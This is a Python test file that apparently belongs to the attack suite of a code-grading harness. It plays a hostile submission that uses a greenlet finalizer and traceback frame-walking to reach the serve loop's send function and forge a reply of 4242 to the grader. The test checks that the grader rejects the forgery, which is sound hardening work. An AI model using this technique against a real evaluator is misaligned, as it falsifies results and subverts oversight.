"""A reply of the student's process's own making, sent on the channel from the serve loop's frame.

The way there (independent attack round 6, still open): greenlet frees a finished thread's state
through CPython's pending calls, which run on the main thread, so a finalizer hung on a call
thread's main greenlet runs on the serve loop's thread; it raises and keeps an exception, whose
traceback's frame, read on a later call's thread, leads through ``f_back`` to the serve loop's locals
(its ``sendmsg`` and the current request's number). ``sequence_length`` answers right itself, and
sends 4242 as its answer first. What must hold: the grader takes the forged reply as no more than
that call's answer (and wrong), and refuses the real one when it comes, out of turn."""
import struct

KEPT = []
SENT = []


class _Keep:
    def __del__(self):
        try:
            raise LookupError("made on the serve loop's thread")
        except LookupError as err:
            KEPT.append(err)


def _arm():
    import greenlet

    greenlet.getcurrent().keep = _Keep()


def _forge(value):
    f = KEPT[0].__traceback__.tb_frame
    while f is not None and f.f_code.co_name != "_serve":
        f = f.f_back
    if f is None:
        return
    sendmsg, rid = f.f_locals["sendmsg"], f.f_locals["rid"]
    doc = ('{"d":[["ok",{"i":"%d"}]]}' % value).encode()
    payload = struct.pack("<Q", len(doc)) + doc + struct.pack("<Q", 0)
    sendmsg([struct.pack("<Q", 13 + len(payload)) + struct.pack("<BQI", 11, rid, 0) + payload])
    SENT.append(rid)


def sequence_length(h, w, p):
    if not KEPT:
        _arm()
    elif not SENT:
        _forge(4242)
    return (h // p) * (w // p)
